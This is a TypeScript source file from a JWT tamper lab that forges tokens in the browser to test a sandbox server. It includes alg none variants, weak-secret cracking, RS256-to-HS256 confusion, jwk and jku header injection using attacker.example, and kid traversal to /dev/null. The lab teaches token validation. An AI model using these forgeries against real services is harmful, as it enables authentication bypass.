// The tamper lab's attacks: the classes the JWT labs teach, each built in the
// browser from the reader's own token. The page holds no secret, so a forgery
// either keeps the real signature over changed bytes, or is signed with a key
// the attacker made; the server must refuse every one. Claims that fail behind
// a good signature need the real key: those are server-made "specimens".
import { decodeJson, encodeBytes, encodeJson } from './base64url';
import type { Specimen } from './types';

export type AttackId =
  | 'as-issued'
  | 'alg-none'
  | 'weak-secret'
  | 'jwk-injection'
  | 'jku-injection'
  | 'kid-traversal'
  | 'alg-confusion'
  | 'typ-confusion'
  | 'crit-header'
  | 'claims-edited'
  | 'expired'
  | 'not-yet-valid'
  | 'wrong-issuer'
  | 'wrong-audience'
  | 'garbage';

export interface Attack {
  id: AttackId;
  label: string;
  /** What the attacker does, in a sentence. */
  does: string;
  /** The token it starts from. */
  needs: 'access' | 'refresh' | 'nothing';
  group: 'Algorithm and signature' | 'Where the key comes from' | 'Claims' | 'Controls';
  /** Made and signed by the server (a real signature over a wrong claim). */
  specimen?: Specimen;
  /** Said under the result: what this attack would need to work, or what did not happen. */
  moral?: string;
}

export const ATTACKS: readonly Attack[] = [
  { id: 'alg-none', group: 'Algorithm and signature', label: 'alg: none', needs: 'access', does: 'Says the token is unsigned (none, None, NONE, nOnE) and drops the signature.', moral: 'A library that trusted the header would skip the signature check. jose never accepts none in jwtVerify, and the pin refuses it first.' },
  { id: 'weak-secret', group: 'Algorithm and signature', label: 'Crack a weak secret', needs: 'access', does: 'Signs a token with secret123, cracks it from a wordlist in this page, then tries the same on the sandbox’s token.', moral: 'An HMAC secret a human chose falls to a wordlist offline; a 32-byte random key does not (RFC 8725 §3.5).' },
  { id: 'alg-confusion', group: 'Algorithm and signature', label: 'RS256 → HS256 confusion', needs: 'access', does: 'Signs HS256 with an RSA public key’s PEM text as the HMAC secret.', moral: 'It works only where a server verifies RS256 with a public key yet lets the header pick HS256. Here the algorithm is pinned and the key is an HMAC secret.' },
  { id: 'claims-edited', group: 'Algorithm and signature', label: 'Edit the claims: role → admin', needs: 'access', does: 'Rewrites the payload and keeps the old signature.', moral: 'The signature covers header and payload: any edit breaks it.' },
  { id: 'jwk-injection', group: 'Where the key comes from', label: 'jwk header injection', needs: 'access', does: 'Signs with an RSA key made in this page and puts its public half in the header as jwk.', moral: 'Verify takes its key from the server, never from the token.' },
  { id: 'jku-injection', group: 'Where the key comes from', label: 'jku header injection', needs: 'access', does: 'Points jku at a key set on attacker.example and signs with that key.', moral: 'No request was made to attacker.example: jose fetches keys only when given createRemoteJWKSet, and this server passes its own key.' },
  { id: 'kid-traversal', group: 'Where the key comes from', label: 'kid path traversal', needs: 'access', does: 'Sets kid to ../../../../dev/null and signs with the empty key reading that file would give.', moral: 'A server that loads "the key named kid" from disk would read an empty file. This one ignores kid.' },
  { id: 'typ-confusion', group: 'Claims', label: 'typ confusion: refresh as access', needs: 'refresh', does: 'Sends the real refresh token, good signature and all, to be checked as an access token.', moral: 'Both kinds are signed with one key; only typ (rt+jwt vs at+jwt) tells them apart, so it is checked.' },
  { id: 'crit-header', group: 'Claims', label: 'Unknown crit header', needs: 'access', does: 'Marks an extension header as critical, one the server does not understand.', moral: 'A critical extension the verifier does not know must make it refuse (RFC 7515 §4.1.11).' },
  { id: 'expired', group: 'Claims', label: 'Expired', specimen: 'expired', needs: 'access', does: 'Your token with exp a minute in the past, signed by the server.' },
  { id: 'not-yet-valid', group: 'Claims', label: 'Not yet valid (nbf)', specimen: 'not-yet-valid', needs: 'access', does: 'Your token with nbf an hour ahead, signed by the server.' },
  { id: 'wrong-issuer', group: 'Claims', label: 'Wrong iss', specimen: 'wrong-issuer', needs: 'access', does: 'Your token issued by https://attacker.example, signed by the server.' },
  { id: 'wrong-audience', group: 'Claims', label: 'Wrong aud', specimen: 'wrong-audience', needs: 'access', does: 'Your token meant for another API, signed by the server.' },
  { id: 'as-issued', group: 'Controls', label: 'The token as issued', needs: 'access', does: 'Sends your access token unchanged: valid until it expires.' },
  { id: 'garbage', group: 'Controls', label: 'A garbage string', needs: 'nothing', does: 'Sends something that is not a JWT at all.' },
];

export const attackById = (id: string): Attack | undefined => ATTACKS.find((a) => a.id === id);

export interface Forgery {
  token: string;
  /** How the server is asked to check it. */
  kind: 'access' | 'refresh';
  /** More spellings of the same attack, each checked too (alg none's case variants). */
  variants?: { label: string; token: string }[];
}

export interface ForgeSource {
  access: string | null;
  refresh: string | null;
}

function split(token: string) {
  const [header = '', payload = '', signature = ''] = token.split('.');
  return { header, payload, signature, headerJson: decodeJson(header) ?? {}, payloadJson: decodeJson(payload) ?? {} };
}

const join = (...parts: string[]) => parts.join('.');
const encoder = new TextEncoder();

/** HMAC-SHA256 of the signing input under `secret`, base64url. */
export async function hmac(secret: Uint8Array, signingInput: string): Promise<string> {
  const key = await crypto.subtle.importKey('raw', secret as BufferSource, { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
  return encodeBytes(new Uint8Array(await crypto.subtle.sign('HMAC', key, encoder.encode(signingInput))));
}

const toPem = (der: ArrayBuffer) => {
  const base64 = btoa(String.fromCharCode(...new Uint8Array(der)));
  return `-----BEGIN PUBLIC KEY-----\n${base64.replace(/.{64}/g, '$&\n')}\n-----END PUBLIC KEY-----\n`;
};

/** An attacker's RSA key pair, made in this page (WebCrypto, 2048 bits). */
async function attackerRsa() {
  const pair = await crypto.subtle.generateKey(
    { name: 'RSASSA-PKCS1-v1_5', modulusLength: 2048, publicExponent: new Uint8Array([1, 0, 1]), hash: 'SHA-256' },
    true,
    ['sign', 'verify'],
  );
  const jwk = await crypto.subtle.exportKey('jwk', pair.publicKey);
  const sign = async (input: string) => encodeBytes(new Uint8Array(await crypto.subtle.sign('RSASSA-PKCS1-v1_5', pair.privateKey, encoder.encode(input))));
  return { jwk: { kty: jwk.kty, n: jwk.n, e: jwk.e }, pem: toPem(await crypto.subtle.exportKey('spki', pair.publicKey)), sign };
}

/** The header and payload re-encoded with changes, and signed by `sign`. */
async function reSign(t: ReturnType<typeof split>, header: Record<string, unknown>, sign: (input: string) => Promise<string>): Promise<string> {
  const input = join(encodeJson(header), t.payload);
  return join(input, await sign(input));
}

/** The forged token for an attack built in the page, or null when the token it starts from is missing. Specimens are made by the server. */
export async function forge(id: AttackId, source: ForgeSource): Promise<Forgery | null> {
  if (id === 'garbage') return { token: 'this-is-not-a-jwt', kind: 'access' };
  if (id === 'typ-confusion') return source.refresh ? { token: source.refresh, kind: 'access' } : null;
  if (!source.access) return null;
  const t = split(source.access);
  const access = (token: string, variants?: Forgery['variants']): Forgery => ({ token, kind: 'access', ...(variants ? { variants } : {}) });
  switch (id) {
    case 'as-issued':
      return access(source.access);
    case 'alg-none': {
      const none = (alg: string) => join(encodeJson({ ...t.headerJson, alg }), t.payload, '');
      const variants = ['None', 'NONE', 'nOnE'].map((alg) => ({ label: `alg: ${alg}`, token: none(alg) }));
      variants.push({ label: 'alg: none, no trailing dot', token: none('none').slice(0, -1) });
      return access(none('none'), variants);
    }
    case 'claims-edited':
      return access(join(t.header, encodeJson({ ...t.payloadJson, role: 'admin' }), t.signature));
    case 'crit-header':
      return access(join(encodeJson({ ...t.headerJson, crit: ['x-attacker'], 'x-attacker': true }), t.payload, t.signature));
    case 'kid-traversal':
      // HMAC pads a short key with zero bytes, so one zero byte signs exactly as the empty key /dev/null yields.
      return access(await reSign(t, { ...t.headerJson, kid: '../../../../dev/null' }, (input) => hmac(new Uint8Array(1), input)));
    case 'jwk-injection': {
      const rsa = await attackerRsa();
      return access(await reSign(t, { ...t.headerJson, alg: 'RS256', jwk: rsa.jwk }, rsa.sign));
    }
    case 'jku-injection': {
      const rsa = await attackerRsa();
      return access(await reSign(t, { ...t.headerJson, alg: 'RS256', jku: 'https://attacker.example/.well-known/jwks.json', kid: 'attacker-1' }, rsa.sign));
    }
    case 'alg-confusion': {
      const rsa = await attackerRsa();
      return access(await reSign(t, { ...t.headerJson, alg: 'HS256' }, (input) => hmac(encoder.encode(rsa.pem), input)));
    }
    default:
      return null;
  }
}

/** Top-level header and payload names whose values differ, and whether the signature changed: what the lab highlights. */
export function changedFields(before: string | null, after: string): { header: string[]; payload: string[]; signature: boolean } {
  const a = split(before ?? '');
  const b = split(after);
  const diff = (x: Record<string, unknown>, y: Record<string, unknown>) =>
    [...new Set([...Object.keys(x), ...Object.keys(y)])].filter((k) => JSON.stringify(x[k]) !== JSON.stringify(y[k]));
  return { header: diff(a.headerJson, b.headerJson), payload: diff(a.payloadJson, b.payloadJson), signature: a.signature !== b.signature };
}

/** Which line of `verify` (sandbox/session.ts) makes the check that failed first. */
export const STOPPING_LINE: Record<string, RegExp> = {
  format: /jwtVerify\(/,
  'critical headers': /jwtVerify\(/,
  algorithm: /algorithms:/,
  signature: /sessionKey\(\)/,
  type: /typ:/,
  'required claims': /requiredClaims/,
  issuer: /issuer:/,
  audience: /audience:/,
  'not before': /currentDate/,
  expiry: /currentDate/,
};
